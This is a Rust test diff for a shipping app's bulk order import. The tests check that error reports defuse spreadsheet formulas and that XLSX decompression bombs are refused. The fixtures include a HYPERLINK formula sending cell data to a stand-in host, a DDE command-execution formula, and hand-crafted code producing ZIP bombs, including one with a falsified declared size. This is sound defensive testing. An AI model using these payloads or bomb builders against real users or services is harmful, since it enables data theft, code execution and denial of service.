@@ -9,6 +9,7 @@
 mod bulk_support;
 
 use bulk_support::*;
+use kargojet_core::address::Phone;
 use kargojet_core::bulk::{
     self, Cell, ColumnMapping, Field, ImportOptions, ImportResult, Progress, REPORT_COLUMNS,
     RowError, SourceFormat, Stage, TextEncoding,
@@ -503,9 +504,40 @@ fn fix(headers: &[String], cells: &mut [String], errors: &[(Option<Field>, Code)
     }
 }
 
+/// `csv` (`;`-separated, no quoted cells on the edited lines) with the cell under `header` of
+/// the row of order `order` replaced by `value`, written as a quoted CSV cell.
+fn set_cell(csv: &str, order: &str, header: &str, value: &str) -> String {
+    let mut lines: Vec<String> = csv.split('\n').map(str::to_string).collect();
+    let column = lines[0].split(';').position(|h| h == header).unwrap();
+    let line = lines
+        .iter_mut()
+        .find(|l| l.starts_with(&format!("{order};")))
+        .unwrap();
+    let mut cells: Vec<String> = line.split(';').map(str::to_string).collect();
+    cells[column] = format!("\"{}\"", value.replace('"', "\"\""));
+    *line = cells.join(";");
+    lines.join("\n")
+}
+
+/// Cells a spreadsheet program would run, in rejected rows of the golden file: a formula in a
+/// note, a phone with its country code, a negative weight, an `@` formula and a tab-led one.
+const HYPERLINK: &str = "=HYPERLINK(\"http://kotu.example/?\"&A1;\"Tıkla\")";
+const AT_FORMULA: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+const TAB_FORMULA: &str = "\t=1+1";
+
+fn orders_with_formula_like_cells() -> Vec<u8> {
+    let csv = String::from_utf8(fixture("orders.csv")).unwrap();
+    let csv = set_cell(&csv, "SIP-1004", "Telefon", "+90 530 123 45 67");
+    let csv = set_cell(&csv, "SIP-1006", "Not", HYPERLINK);
+    let csv = set_cell(&csv, "SIP-1007", "Not", AT_FORMULA);
+    let csv = set_cell(&csv, "SIP-1008", "Not", TAB_FORMULA);
+    let csv = set_cell(&csv, "SIP-1014", "Kg", "-5");
+    csv.into_bytes()
+}
+
 #[test]
 fn the_csv_error_report_imports_again_and_fixed_it_is_accepted() {
-    let original = import(&fixture("orders.csv"));
+    let original = import(&orders_with_formula_like_cells());
     let report = original.error_report_csv().unwrap();
     assert!(report.starts_with(b"\xEF\xBB\xBF"));
 
@@ -542,6 +574,40 @@ fn the_csv_error_report_imports_again_and_fixed_it_is_accepted() {
         .collect();
     let satir = headers.len() - 4;
     assert_eq!(rows[0][satir], "5");
+
+    // No cell of the report starts like a formula: such cells are behind a `'` (OWASP), and
+    // the report imports again to exactly the cells it was written from.
+    for cell in rows.iter().flatten().chain(&headers) {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a formula in the report: {cell:?}"
+        );
+    }
+    let in_report = |order: &str, header: &str| {
+        let i = headers.iter().position(|h| h == header).unwrap();
+        rows.iter().find(|r| r[0] == order).unwrap()[i].clone()
+    };
+    assert_eq!(in_report("SIP-1004", "Telefon"), "'+90 530 123 45 67");
+    assert_eq!(in_report("SIP-1006", "Not"), format!("'{HYPERLINK}"));
+    assert_eq!(in_report("SIP-1007", "Not"), format!("'{AT_FORMULA}"));
+    assert_eq!(in_report("SIP-1008", "Not"), format!("'{TAB_FORMULA}"));
+    assert_eq!(in_report("SIP-1014", "Kg"), "'-5");
+    let width = original.headers.len();
+    for b in &again.rejected {
+        let source_row: usize = b.cells[width].as_text().parse().unwrap();
+        let a = original
+            .rejected
+            .iter()
+            .find(|a| a.row == source_row)
+            .unwrap();
+        assert_eq!(a.cells[..], b.cells[..width], "row {}", a.row);
+    }
+    let kg = headers.iter().position(|h| h == "Kg").unwrap();
+    let negative = again
+        .rejected
+        .iter()
+        .find(|r| r.cells[kg] == Cell::text("-5"));
+    assert!(negative.is_some(), "-5 came back as -5");
     assert_eq!(rows[0][satir + 1], "bulk.missing_value");
     assert!(
         rows[0][satir + 2].starts_with("ALICI ADI: Zorunlu hücre boş"),
@@ -568,6 +634,17 @@ fn the_csv_error_report_imports_again_and_fixed_it_is_accepted() {
     let fixed = import(&fixed);
     assert!(fixed.rejected.is_empty(), "{:#?}", fixed.rejected);
     assert_eq!(fixed.accepted.len(), original.rejected.len());
+    // The quoted cells arrive as the seller wrote them.
+    let request = |order: &str| {
+        let a = fixed.accepted.iter();
+        let mut a = a.filter(|a| a.request.order_id.as_deref() == Some(order));
+        a.next().unwrap().request.clone()
+    };
+    let phone = Phone::parse("+90 530 123 45 67", "phone").unwrap();
+    assert_eq!(phone, Phone::parse("05301234567", "phone").unwrap());
+    assert_eq!(request("SIP-1004").recipient.phone, phone);
+    assert_eq!(request("SIP-1006").description.as_deref(), Some(HYPERLINK));
+    assert_eq!(request("SIP-1007").description.as_deref(), Some(AT_FORMULA));
 
     // A report of a report does not repeat the report columns.
     let twice = again.error_report_csv().unwrap();
@@ -631,6 +708,392 @@ fn the_xlsx_error_report_keeps_numbers_and_imports_again_fixed() {
     let fixed = import(&out.save_to_buffer().unwrap());
     assert!(fixed.rejected.is_empty(), "{:#?}", fixed.rejected);
     assert_eq!(fixed.accepted.len(), original.rejected.len());
+}
+
+#[test]
+fn the_xlsx_error_report_writes_formula_like_cells_as_strings() {
+    use calamine::{Data, Reader, Xlsx};
+    let csv = String::from_utf8(fixture("orders.csv")).unwrap();
+    let csv = set_cell(&csv, "SIP-1004", "Not", "=SUM(A1)");
+    let csv = set_cell(&csv, "SIP-1004", "Telefon", "+90 530 123 45 67");
+    let original = import(csv.as_bytes());
+    let report = original.error_report_xlsx().unwrap();
+
+    // The cell is a string cell with the text as it was: no formula, no added quote.
+    let mut wb = Xlsx::new(std::io::Cursor::new(report.clone())).unwrap();
+    let range = wb.worksheet_range("Hatalar").unwrap();
+    let headers: Vec<String> = range
+        .rows()
+        .next()
+        .unwrap()
+        .iter()
+        .map(|c| c.to_string())
+        .collect();
+    let column = |h: &str| headers.iter().position(|x| x == h).unwrap();
+    let row = range
+        .rows()
+        .find(|r| r[0] == Data::String("SIP-1004".into()))
+        .unwrap();
+    assert_eq!(row[column("Not")], Data::String("=SUM(A1)".into()));
+    assert_eq!(
+        row[column("Telefon")],
+        Data::String("+90 530 123 45 67".into())
+    );
+    let formulas = wb.worksheet_formula("Hatalar").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "the XLSX report has formulas"
+    );
+
+    // And it imports again to the same cells.
+    let again = import(&report);
+    let a = original.rejected.iter().find(|r| r.row == 5).unwrap();
+    let b = &again.rejected[0];
+    assert_eq!(b.cells[original.headers.len()], Cell::Number(dec!(5)));
+    assert_eq!(a.cells[..], b.cells[..original.headers.len()]);
+}
+
+mod decompression_bombs {
+    //! XLSX workbooks that are small on disk but expand to far more are refused from their ZIP
+    //! central directory, before anything is decompressed.
+    use super::*;
+    use std::io::{Cursor, Read};
+    use std::time::{Duration, Instant};
+    use zip::{ZipArchive, ZipWriter};
+
+    const MIB: u64 = 1024 * 1024;
+    const SHEET: &str = "xl/worksheets/sheet1.xml";
+    const HEAD: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\
+        <worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
+        <sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Sipariş No</t></is></c></row>";
+    const TAIL: &str = "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>SIP-1</t></is></c></row></sheetData></worksheet>";
+
+    /// Bits of a deflate stream, least significant first.
+    #[derive(Default)]
+    struct Bits {
+        out: Vec<u8>,
+        acc: u64,
+        n: u32,
+    }
+
+    impl Bits {
+        /// `count` bits of `value`, lowest first (header fields and extra bits).
+        fn put(&mut self, value: u32, count: u32) {
+            self.acc |= u64::from(value) << self.n;
+            self.n += count;
+            while self.n >= 8 {
+                self.out.push(self.acc as u8);
+                self.acc >>= 8;
+                self.n -= 8;
+            }
+        }
+
+        /// A Huffman code of `len` bits, most significant first.
+        fn code(&mut self, code: u32, len: u32) {
+            self.put(code.reverse_bits() >> (32 - len), len);
+        }
+
+        /// A literal byte or end-of-block (256) with the fixed Huffman code.
+        fn fixed(&mut self, symbol: u32) {
+            match symbol {
+                0..=143 => self.code(0x30 + symbol, 8),
+                144..=255 => self.code(0x190 + symbol - 144, 9),
+                _ => self.code(0, 7),
+            }
+        }
+
+        fn finish(mut self) -> Vec<u8> {
+            self.put(0, 7);
+            self.out
+        }
+    }
+
+    /// Deflate of `head`, `run` spaces and `tail`, hand-made so that building even a 300 MiB
+    /// bomb costs nothing: the head and a first space as fixed-Huffman literals, then one
+    /// dynamic block whose only codes are "length 258" and "distance 1" (one bit each: two
+    /// bits for 258 spaces, about 1000:1), then the rest of the run and the tail as literals.
+    fn deflate_run(head: &[u8], run: u64, tail: &[u8]) -> Vec<u8> {
+        assert!(run >= 1);
+        let mut b = Bits::default();
+        b.put(0, 1); // not the last block
+        b.put(1, 2); // fixed Huffman
+        for &c in head {
+            b.fixed(u32::from(c));
+        }
+        b.fixed(u32::from(b' '));
+        b.fixed(256);
+        b.put(0, 1);
+        b.put(2, 2); // dynamic Huffman
+        b.put(29, 5); // 286 literal/length codes
+        b.put(0, 5); // 1 distance code
+        b.put(14, 4); // 18 code length codes
+        // Code length code lengths in their order 16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4,
+        // 12, 3, 13, 2, 14, 1: only 18 (a run of zeros) and 1, one bit each (1 → 0, 18 → 1).
+        for i in 0..18 {
+            b.put(u32::from(i == 2 || i == 17), 3);
+        }
+        let zeros = |b: &mut Bits, n: u32| {
+            b.code(1, 1);
+            b.put(n - 11, 7);
+        };
+        zeros(&mut b, 138);
+        zeros(&mut b, 118); // literals 0..=255 unused
+        b.code(0, 1); // 256 (end of block): 1 bit
+        zeros(&mut b, 28); // lengths 257..=284 unused
+        b.code(0, 1); // 285 (length 258): 1 bit
+        b.code(0, 1); // distance code 0 (distance 1): 1 bit
+        let left = run - 1;
+        for _ in 0..left / 258 {
+            b.code(1, 1); // 285
+            b.code(0, 1); // distance 1
+        }
+        b.code(0, 1); // end of block
+        b.put(1, 1); // last block
+        b.put(1, 2);
+        for _ in 0..left % 258 {
+            b.fixed(u32::from(b' '));
+        }
+        for &c in tail {
+            b.fixed(u32::from(c));
+        }
+        b.fixed(256);
+        b.finish()
+    }
+
+    /// One step of the CRC-32 register (reflected, polynomial 0xEDB88320).
+    fn crc_step(mut s: u32, byte: u8) -> u32 {
+        s ^= u32::from(byte);
+        for _ in 0..8 {
+            s = if s & 1 == 1 {
+                (s >> 1) ^ 0xEDB8_8320
+            } else {
+                s >> 1
+            };
+        }
+        s
+    }
+
+    /// CRC-32 of `head`, `run` spaces and `tail`. A register step is affine over GF(2)
+    /// (`s ↦ L·s ⊕ c`), so `run` steps are its `run`-th power, by repeated squaring.
+    fn crc_run(head: &[u8], run: u64, tail: &[u8]) -> u32 {
+        #[derive(Clone, Copy)]
+        struct Affine {
+            columns: [u32; 32],
+            constant: u32,
+        }
+        impl Affine {
+            fn linear(&self, s: u32) -> u32 {
+                (0..32)
+                    .filter(|i| s >> i & 1 == 1)
+                    .fold(0, |acc, i| acc ^ self.columns[i])
+            }
+            /// `self` after `first`.
+            fn after(&self, first: &Affine) -> Affine {
+                Affine {
+                    columns: first.columns.map(|c| self.linear(c)),
+                    constant: self.linear(first.constant) ^ self.constant,
+                }
+            }
+        }
+        let mut s = head.iter().fold(!0u32, |s, &c| crc_step(s, c));
+        let mut power = Affine {
+            columns: std::array::from_fn(|i| crc_step(1 << i, 0)),
+            constant: crc_step(0, b' '),
+        };
+        let mut n = run;
+        while n > 0 {
+            if n & 1 == 1 {
+                s = power.linear(s) ^ power.constant;
+            }
+            power = power.after(&power);
+            n >>= 1;
+        }
+        !tail.iter().fold(s, |s, &c| crc_step(s, c))
+    }
+
+    /// A ZIP archive holding one deflated entry.
+    fn one_entry_zip(name: &str, data: &[u8], crc: u32, size: u64) -> Vec<u8> {
+        let size = u32::try_from(size).unwrap();
+        let fields = |z: &mut Vec<u8>| {
+            for v in [20u16, 0, 8, 0, 0x21] {
+                z.extend(v.to_le_bytes()); // version, flags, deflate, time, date
+            }
+            for v in [crc, data.len() as u32, size] {
+                z.extend(v.to_le_bytes());
+            }
+            z.extend((name.len() as u16).to_le_bytes());
+            z.extend(0u16.to_le_bytes()); // no extra field
+        };
+        let mut z = b"PK\x03\x04".to_vec();
+        fields(&mut z);
+        z.extend(name.as_bytes());
+        z.extend(data);
+        let directory = z.len() as u32;
+        z.extend(b"PK\x01\x02");
+        z.extend(20u16.to_le_bytes()); // made by
+        fields(&mut z);
+        z.extend([0u8; 10]); // comment length, disk, attributes
+        z.extend(0u32.to_le_bytes()); // local header at 0
+        z.extend(name.as_bytes());
+        let directory_size = z.len() as u32 - directory;
+        z.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
+        z.extend(directory_size.to_le_bytes());
+        z.extend(directory.to_le_bytes());
+        z.extend(0u16.to_le_bytes());
+        z
+    }
+
+    /// The worksheet XML with `run` spaces inside `<sheetData>`, deflated, in a ZIP of its own.
+    fn sheet_zip(run: u64) -> Vec<u8> {
+        let (head, tail) = (HEAD.as_bytes(), TAIL.as_bytes());
+        let size = head.len() as u64 + run + tail.len() as u64;
+        let data = deflate_run(head, run, tail);
+        one_entry_zip(SHEET, &data, crc_run(head, run, tail), size)
+    }
+
+    #[test]
+    fn the_hand_made_deflate_and_crc_are_right() {
+        let run = 258 * 5 + 100;
+        let mut archive = ZipArchive::new(Cursor::new(sheet_zip(run))).unwrap();
+        let mut text = String::new();
+        archive
+            .by_name(SHEET)
+            .unwrap()
+            .read_to_string(&mut text)
+            .unwrap();
+        assert_eq!(text, format!("{HEAD}{}{TAIL}", " ".repeat(run as usize)));
+    }
+
+    /// A real workbook whose first worksheet is a header row (`Sipariş No`), `size` bytes of
+    /// XML (mostly spaces) and a data row, deflated about 1000:1.
+    fn bomb(size: u64) -> Vec<u8> {
+        let mut wb = rust_xlsxwriter::Workbook::new();
+        wb.add_worksheet();
+        let small = wb.save_to_buffer().unwrap();
+        let mut source = ZipArchive::new(Cursor::new(small)).unwrap();
+        let mut sheet = ZipArchive::new(Cursor::new(sheet_zip(
+            size - (HEAD.len() + TAIL.len()) as u64,
+        )))
+        .unwrap();
+        let mut out = ZipWriter::new(Cursor::new(Vec::new()));
+        for i in 0..source.len() {
+            let entry = source.by_index_raw(i).unwrap();
+            if entry.name().unwrap() == SHEET {
+                drop(entry);
+                out.raw_copy_file(sheet.by_index_raw(0).unwrap()).unwrap();
+            } else {
+                out.raw_copy_file(entry).unwrap();
+            }
+        }
+        out.finish().unwrap().into_inner()
+    }
+
+    /// Imports with `limits`, timing the import alone.
+    fn refused(bytes: &[u8], limits: bulk::Limits) -> (kargojet_core::error::Error, Duration) {
+        let options = ImportOptions {
+            limits,
+            ..ImportOptions::new(sender())
+        };
+        let started = Instant::now();
+        let result = bulk::import(bytes, &options);
+        let took = started.elapsed();
+        (result.expect_err("the bomb was imported"), took)
+    }
+
+    /// The sizes the central directory declares for the worksheet: (compressed, expanded).
+    fn declared(bytes: &[u8]) -> (u64, u64) {
+        let archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
+        let i = archive.index_for_name(SHEET).unwrap();
+        let e = archive.by_index_data(i).unwrap();
+        (e.compressed_size(), e.size())
+    }
+
+    #[test]
+    fn a_workbook_expanding_beyond_256_mib_is_refused_quickly() {
+        let bytes = bomb(300 * MIB);
+        let (compressed, size) = declared(&bytes);
+        assert_eq!(size, 300 * MIB);
+        assert!(bytes.len() < 2 * MIB as usize, "{} bytes", bytes.len());
+        // Ratio checks off: the total alone refuses it.
+        let limits = bulk::Limits {
+            max_compression_ratio: u32::MAX,
+            ..bulk::Limits::default()
+        };
+        let (e, took) = refused(&bytes, limits);
+        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
+        assert_eq!(e.field(), Some("file"));
+        assert!(
+            e.to_string().contains("268435456 bytes (256 MiB)"),
+            "{e} ({compressed} compressed)"
+        );
+        assert!(took < Duration::from_secs(1), "took {took:?}");
+        // With the default limits too.
+        let (e, _) = refused(&bytes, bulk::Limits::default());
+        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
+    }
+
+    #[test]
+    fn an_entry_compressed_more_than_200_to_1_is_refused_and_the_limits_are_options() {
+        let bytes = bomb(64 * MIB);
+        let (compressed, size) = declared(&bytes);
+        assert!(size > 200 * compressed, "{size} from {compressed}");
+        let (e, took) = refused(&bytes, bulk::Limits::default());
+        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
+        let text = e.to_string();
+        assert!(text.contains(SHEET) && text.contains("200:1"), "{text}");
+        assert!(took < Duration::from_secs(1), "took {took:?}");
+        // A lower total, configured, refuses the same file for its size.
+        let limits = bulk::Limits {
+            max_expanded_bytes: 16 * MIB,
+            max_compression_ratio: 2000,
+            ..bulk::Limits::default()
+        };
+        let (e, _) = refused(&bytes, limits);
+        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
+        assert!(e.to_string().contains("(16 MiB)"), "{e}");
+        // Small parts may compress as well as they like: a 4 MiB sheet of spaces is read
+        // (its header row has none of the required columns).
+        let small = bomb(4 * MIB);
+        let (compressed, size) = declared(&small);
+        assert!(size > 200 * compressed);
+        let e = bulk::import(&small, &ImportOptions::new(sender()))
+            .err()
+            .unwrap();
+        assert_eq!(e.code(), Code::BulkMissingColumn, "{e}");
+    }
+
+    #[test]
+    fn an_entry_that_understates_its_size_is_cut_off_at_the_declared_size() {
+        // The limits trust the central directory; the `zip` reader calamine uses stops an
+        // entry at its declared size. Declare 64 KiB for a 64 MiB sheet.
+        let mut bytes = bomb(64 * MIB);
+        let lie = 64u32 * 1024;
+        let archive = ZipArchive::new(Cursor::new(&bytes)).unwrap();
+        let e = archive
+            .by_index_data(archive.index_for_name(SHEET).unwrap())
+            .unwrap();
+        let (local, central) = (e.header_start() as usize, e.central_header_start() as usize);
+        drop(archive);
+        // Uncompressed size: offset 22 of a local header, 24 of a central directory header.
+        assert_eq!(&bytes[local..local + 4], b"PK\x03\x04");
+        assert_eq!(&bytes[central..central + 4], b"PK\x01\x02");
+        bytes[local + 22..local + 26].copy_from_slice(&lie.to_le_bytes());
+        bytes[central + 24..central + 28].copy_from_slice(&lie.to_le_bytes());
+        assert_eq!(declared(&bytes).1, u64::from(lie));
+        // Read directly, the entry stops just past the declared size.
+        let mut archive = ZipArchive::new(Cursor::new(&bytes)).unwrap();
+        let mut read = Vec::new();
+        let r = archive.by_name(SHEET).unwrap().read_to_end(&mut read);
+        assert!(
+            r.is_err() && read.len() <= lie as usize + 1,
+            "{}",
+            read.len()
+        );
+        // Imported, it is refused quickly.
+        let (e, took) = refused(&bytes, bulk::Limits::default());
+        assert_eq!(e.code(), Code::BulkUnreadableFile, "{e}");
+        assert!(took < Duration::from_secs(1), "took {took:?}");
+    }
 }
 
 #[test]
